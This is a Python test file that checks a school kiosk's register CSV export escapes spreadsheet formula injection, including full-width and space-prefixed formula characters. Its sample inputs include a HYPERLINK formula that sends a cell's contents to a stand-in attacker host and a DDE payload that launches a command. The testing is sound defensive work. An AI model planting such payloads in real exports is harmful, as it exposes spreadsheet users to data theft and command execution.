"""Office red-team round 14: what the office reads and exports is the truth of the record, and
hostile text in it hurts no one (exports, labels, e-mails, the CLI)."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator

import pytest

from kiosk.config import Settings
from kiosk.db.engine import make_engine
from kiosk.services.app import Services
from tests.conftest import FakeClock
from tests.school import make_school

# A cell a spreadsheet can take for a formula: the ASCII starts, their full-width forms (a
# spreadsheet in a Japanese or Chinese locale reads U+FF1D as =), and the ASCII starts behind spaces
# (LibreOffice's "trim spaces" import option takes them off first).
FORMULAS = [
    '\uff1dHYPERLINK("http://evil.example/"&A1,"Click")',
    "\uff0b1+cmd|' /C calc'!A0",
    "\uff0d2+3",
    "\uff20SUM(A1:A9)",
    "  =1+1",
    "\u3000=1+1",
]


@pytest.fixture
def school(db_url: str) -> Iterator[Services]:
    services = Services(make_engine(db_url), Settings(database_url=db_url), FakeClock())
    make_school(services)
    yield services
    services.close()


def _cells(text: str) -> list[str]:
    return [cell for line in csv.reader(io.StringIO(text)) for cell in line]


def _formula_like(cell: str) -> bool:
    import unicodedata

    start = unicodedata.normalize("NFKC", cell).lstrip()
    return start.startswith(("=", "+", "-", "@")) or cell.startswith(("\t", "\r", "\n"))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_correction_reason_in_full_width_is_no_formula_in_the_register_csv(
    school: Services, text: str
) -> None:
    """A correction's reason is free text typed at the console: a full-width U+FF1D (or a formula
    behind spaces) came out of the register CSV as written, a live formula in a spreadsheet
    whose locale reads U+FF1D as =. Now it is prefixed with ' like any formula."""
    deposit = school.phones.deposit("BJONES")
    school.register.void(deposit.event_id, reason=text, admin_code="DOFFICE")
    out = io.StringIO()
    school.register.export_csv(out, deposit.occurred_at.date())
    cells = _cells(out.getvalue())
    risky = [cell for cell in cells if _formula_like(cell)]
    assert risky == []
    assert any(cell.startswith("'") and text.strip() in cell for cell in cells)
